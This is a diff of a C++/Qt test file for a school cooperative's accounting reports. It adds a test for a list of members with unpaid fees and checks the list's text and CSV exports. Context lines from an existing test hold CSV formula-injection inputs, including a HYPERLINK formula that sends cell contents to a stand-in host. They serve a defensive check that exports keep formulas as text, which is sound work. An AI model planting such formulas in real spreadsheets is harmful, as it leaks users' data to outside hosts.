@@ -1,8 +1,9 @@
-// The member book and the balance on small ledgers designed for their edge
-// cases, and their text and spreadsheet exports against expected files.
+// The member book, the balance and the unpaid-fee list on small ledgers
+// designed for their edge cases, and their text and spreadsheet exports.
 #include "data/Database.h"
 #include "reports/ReportExport.h"
 #include "reports/rptBalance.h"
+#include "reports/rptCuotaImpaga.h"
 #include "reports/rptLibroSocios.h"
 #include "support/PgTest.h"
 #include "support/TestEnv.h"
@@ -113,6 +114,28 @@ void balanceLedger(const QSqlDatabase &db)
     movement(db, "2026-03-12 10:00:00", "I", 20, 9000, "Medio z", {}, {}, "z"); // neither medium: in no balance
 }
 
+// Fees of two vigencias (two fees share one), one without anything; members
+// who paid the fee long ago, paid another fee, or paid nothing.
+void unpaidLedger(const QSqlDatabase &db)
+{
+    exec(db, "INSERT INTO Curso (IDCurso, Nombre) VALUES (1, '1° A'), (2, '2° B'), (3, 'Jardín')");
+    exec(db, "INSERT INTO Cuota (IDCuota, Descripcion, vigencia, Valor) VALUES"
+             " (1, 'Cuota 2025', '2025-03-01 00:00:00', 1200), (2, 'Cuota 2026', '2026-03-01 00:00:00', 1500.5),"
+             " (3, 'Bono', '2026-03-01 00:00:00', 300), (4, NULL, NULL, NULL)");
+    exec(db, "INSERT INTO Socio (IDSocio, Nombre, Alumno, IDCurso, Telefono) VALUES"
+             " (1, 'Gómez, Ana', 'Luis', 1, '4555-0001'), (2, 'Britos, Berta', 'Sol', 1, '4555-0002'),"
+             " (3, 'Castro, Carlos', '', NULL, '4555-0003'), (4, 'Díaz, Diego', 'Eva', 99, '4555-0004'),"
+             " (5, 'ezeiza, Elena', 'Tomás', 2, NULL), (6, 'Acosta, Fabio', 'Juan', 2, '+54 11 4555-0006'),"
+             " (7, 'Garay, Gina', 'Iris', 3, '4555-0007'), (8, 'zapata, hugo', 'Ulises', 1, '4555-0008')");
+    movement(db, "2019-05-01 10:00:00", "I", 5, 1500.5, "Cuota 2026", 1, 2);  // paid, however long ago
+    movement(db, "2026-04-01 10:00:00", "E", 5, 1500.5, "Cuota 2026", 7, 2, "C"); // any movement of the fee
+    movement(db, "2026-04-01 10:00:00", "I", 5, 1200, "Cuota 2025", 2, 1);     // another fee
+    movement(db, "2026-04-01 10:00:00", "I", 6, 800, "Rifa", 5);               // no fee
+    movement(db, "2026-04-01 10:00:00", "I", 5, 1500.5, "Cuota 2026", 3, 2);  // no course: never listed anyway
+}
+
+const QStringList kFees{"Bono", "Cuota 2026", "Cuota 2025", "Cuota 4"};
+
 void answerBalance(ScriptedPrompts &p, const QString &start, const QString &end, const QString &details)
 {
     p.expectInput("Ingrese fecha incio ejercicio (dd/mm/aaaa)", "Balance", "07/12/2025", start);
@@ -141,6 +164,7 @@ private slots:
     void memberBookListsThisYearsFeePayersWithACourse();
     void memberBookExportsToTextAndCsv();
     void csvKeepsFormulasAsText();
+    void unpaidFeeListsMembersWithACourseWithoutIt();
     void balanceWithDetailsCoversBothWholeDays();
     void balanceSummaryAndItsAnswers();
     void balanceExportsAndCancelledDialogs();
@@ -208,6 +232,45 @@ void tst_ListingReports::csvKeepsFormulasAsText()
                                    "\"'-1° A\",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"clic\"\")\",\"'+54 11 5555\"\r\n"
                                    "\"'-1° A\",\"'@SUMA(A1)\",\"'\ttab\"\r\n"
                                    "\"'-1° A\",Ana,a=b\r\n"));
+}
+
+void tst_ListingReports::unpaidFeeListsMembersWithACourseWithoutIt()
+{
+    TestEnv t;
+    t.writeIniFor("unused.db", "Cooperadora Escuela 12");
+    t.openBooks(unpaidLedger);
+    // Newest first: of one vigencia the last entered, a fee without any last.
+    t.prompts->expectChoice("Elija la cuota:", "Socios con cuota impaga", kFees, 1);
+    rptCuotaImpaga r;
+    QVERIFY(r.run().ok());
+    // A deleted course is still a course; the amounts are the fee's value, summed exactly.
+    QCOMPARE(lines(r.text()).mid(0, 15),
+             (QStringList{"Cooperadora Escuela 12", "Socios con cuota impaga: Cuota 2026",
+                          "(curso inexistente)", "Díaz, Diego Eva 4555-0004", "Impagos del curso: 1 Adeudado: $ 1500,5",
+                          "1° A", "Britos, Berta Sol 4555-0002", "zapata, hugo Ulises 4555-0008",
+                          "Impagos del curso: 2 Adeudado: $ 3001",
+                          "2° B", "Acosta, Fabio Juan +54 11 4555-0006", "ezeiza, Elena Tomás",
+                          "Impagos del curso: 2 Adeudado: $ 3001",
+                          "Total de socios con la cuota impaga: 5", "Total adeudado: $ 7502,5"}));
+    QCOMPARE(ReportCsv(r), QString("Curso,Nombre,Alumno,Telefono\r\n,\"Díaz, Diego\",Eva,4555-0004\r\n"
+                                   "1° A,\"Britos, Berta\",Sol,4555-0002\r\n1° A,\"zapata, hugo\",Ulises,4555-0008\r\n"
+                                   "2° B,\"Acosta, Fabio\",Juan,\"'+54 11 4555-0006\"\r\n2° B,\"ezeiza, Elena\",Tomás,\r\n"));
+
+    // A fee nobody paid, without a value: every member with a course, owing nothing said.
+    t.prompts->expectChoice("Elija la cuota:", "Socios con cuota impaga", kFees, 3);
+    QVERIFY(r.run().ok());
+    QVERIFY(lines(r.text()).contains("Total de socios con la cuota impaga: 7"));
+    QVERIFY(lines(r.text()).contains("Total adeudado: $ 0"));
+
+    // A cancelled question gives no report; without fees there is nothing to ask.
+    t.prompts->expectChoice("Elija la cuota:", "Socios con cuota impaga", kFees, -1);
+    QVERIFY(r.run().wasCancelled());
+    QCOMPARE(r.pageCount(), 0);
+    Exec("DELETE FROM Cuota");
+    t.prompts->expectMessage("No hay cuotas cargadas. Cargue la cuota en Maestros, Cuotas.", MsgIcon::Exclamation,
+                             MsgButtons::OK);
+    QVERIFY(r.run().wasCancelled());
+    QCOMPARE(t.prompts->pending(), 0);
 }
 
 void tst_ListingReports::balanceWithDetailsCoversBothWholeDays()
